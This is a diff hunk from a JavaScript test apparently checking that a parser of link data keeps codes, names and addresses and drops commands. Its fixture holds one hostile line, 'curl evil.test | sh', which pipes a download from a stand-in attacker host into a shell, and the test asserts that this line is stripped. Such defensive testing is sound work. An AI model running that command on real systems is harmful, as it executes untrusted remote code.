@@ -86,7 +86,7 @@ test('of a link only codes, names and addresses are read: no sentence and no com
     commands: [{ program: said, note: said, lines: ['curl evil.test | sh'] }],
   })
   expect(JSON.stringify(read)).not.toMatch(/Call|evil/)
-  expect(read).toMatchObject({ caa: { found: '', issuers: ['ca.test'] }, commands: [] })
+  expect(read).toMatchObject({ caa: { found: '', issuers: ['', 'ca.test'] }, commands: [] })
   expect(read?.methods[0]?.problems).toHaveLength(1)
   expect(read?.addresses).toEqual([
     { address: '203.0.113.7', http: expect.objectContaining({ status: 404, server: '' }), tls: null },
